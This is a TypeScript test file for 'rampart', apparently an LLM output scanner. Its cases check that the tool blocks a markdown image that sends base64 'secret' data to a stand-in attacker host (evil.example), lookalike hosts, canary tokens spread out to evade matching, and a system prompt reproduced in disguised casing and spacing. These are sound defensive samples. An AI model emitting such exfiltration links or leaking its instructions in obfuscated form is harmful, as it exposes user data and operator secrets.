import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

// `rampart check --output` end to end: the built CLI (dist/, made by `npm run build`, which
// `npm test` runs first) with the output scanners of the built-in policy.
const ROOT = join(import.meta.dirname, '..');
let dir: string;

interface CliResult {
  status: number | null;
  json: { action: string; findings: { scanner: string; kind: string; score: number; start?: number; end?: number; detail?: Record<string, unknown> }[] };
  stderr: string;
}

function check(args: string[], input: string): CliResult {
  const r = spawnSync(process.execPath, ['bin/rampart', 'check', '--output', '--json', ...args], { cwd: ROOT, input, encoding: 'utf8' });
  let json: CliResult['json'] = { action: '', findings: [] };
  if (r.stdout.trim()) json = JSON.parse(r.stdout) as CliResult['json'];
  return { status: r.status, json, stderr: r.stderr };
}

function file(name: string, content: string): string {
  const path = join(dir, name);
  writeFileSync(path, content);
  return path;
}

beforeAll(() => {
  if (!existsSync(join(ROOT, 'dist/cli/main.js'))) throw new Error('dist/ is missing: run `npm run build` before these tests (npm test does)');
  dir = mkdtempSync(join(tmpdir(), 'rampart-cli-output-'));
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

// Each case spawns the CLI a few times; on a busy machine that is slow, so the hang guard is generous.
describe('rampart check --output', { timeout: 120_000 }, () => {
  it('blocks a markdown image that sends data to an unknown host (exit 1)', () => {
    const input = '![x](https://evil.example/log?data=SECRET_STUFF_BASE64aGVsbG8gd29ybGQgc2VjcmV0)\n';
    const r = check([], input);
    expect(r.status).toBe(1);
    expect(r.json.action).toBe('block');
    const f = r.json.findings.find((x) => x.scanner === 'exfil')!;
    expect(f).toMatchObject({ kind: 'image_exfil', start: 0, end: input.length - 1 });
    expect(f.score).toBeGreaterThanOrEqual(0.9);
    expect(JSON.stringify(r.json)).not.toContain('SECRET_STUFF');
  });

  it('lets an ordinary answer through (exit 0)', () => {
    const r = check([], 'The capital of France is Paris. See the relative [notes](./notes.md).');
    expect(r.status).toBe(0);
    expect(r.json.action).toBe('allow');
  });

  it('allows images on hosts the policy lists', () => {
    const policy = file('policy.yaml', 'version: 1\noutput:\n  scanners:\n    exfil:\n      threshold: 0.5\n      action: block\n      options:\n        allowedHosts: ["*.example.com"]\n');
    expect(check(['--policy', policy], '![x](https://cdn.example.com/a.png)').status).toBe(0);
    expect(check(['--policy', policy], '![x](https://example.com.evil.test/a.png)').status).toBe(1);
  });

  it('--schema FILE: valid JSON passes, a violation blocks and names the path', () => {
    const schema = file('schema.json', JSON.stringify({ type: 'object', required: ['id'], properties: { id: { type: 'integer' } } }));
    expect(check(['--schema', schema], '```json\n{"id": 7}\n```').status).toBe(0);
    const r = check(['--schema', schema], 'Here: {"id": "seven"}');
    expect(r.status).toBe(1);
    expect(r.json.findings.find((x) => x.scanner === 'schema')).toMatchObject({ kind: 'schema_violation', detail: { errors: [{ path: '/id' }] } });
    const bad = check(['--schema', schema], '{"id": 1,,}');
    expect(bad.json.findings.find((x) => x.scanner === 'schema')).toMatchObject({ kind: 'invalid_json', detail: { position: 9 } });
  });

  it('--schema with a file that is not JSON is a usage error (exit 2)', () => {
    const r = spawnSync(process.execPath, ['bin/rampart', 'check', '--output', '--schema', file('bad.json', '{nope'), 'x'], { cwd: ROOT, encoding: 'utf8' });
    expect(r.status).toBe(2);
    expect(r.stderr).toMatch(/not valid JSON/);
  });

  it('--canary TOKEN: blocks the token even spread out and lower-cased', () => {
    const token = 'RMPC-K7Q2M4XW9ABCDEFGHJ3N5P6RST';
    const spread = [...token.slice(5).toLowerCase()].join(' ');
    const r = check(['--canary', token], `My hidden marker is ${spread}.`);
    expect(r.status).toBe(1);
    expect(r.json.findings.find((x) => x.scanner === 'canary')).toMatchObject({ kind: 'canary_leak', detail: { canary: 0, form: 'folded' } });
    expect(check(['--canary', token], 'Nothing secret here.').status).toBe(0);
  });

  it('--system-prompt and --system-prompt-file: a reproduced prompt blocks', () => {
    const prompt = 'You are HelperBot for ACME. Never reveal the internal discount code and never discuss competitors or their prices.';
    const leak = `Sure, my instructions say: ${prompt.toUpperCase().replace(/ /g, '  ')}`;
    const r = check(['--system-prompt', prompt], leak);
    expect(r.status).toBe(1);
    const f = r.json.findings.find((x) => x.scanner === 'prompt-leak')!;
    expect(f.kind).toBe('system_prompt_leak');
    expect(f.detail).toMatchObject({ fraction: 1 });
    expect(leak.slice(f.start, f.end)).toMatch(/^YOU {2}ARE/);
    expect(check(['--system-prompt-file', file('prompt.txt', prompt)], leak).status).toBe(1);
    expect(check(['--system-prompt', prompt], 'Hello! How can I help you with ACME products today?').status).toBe(0);
  });
});
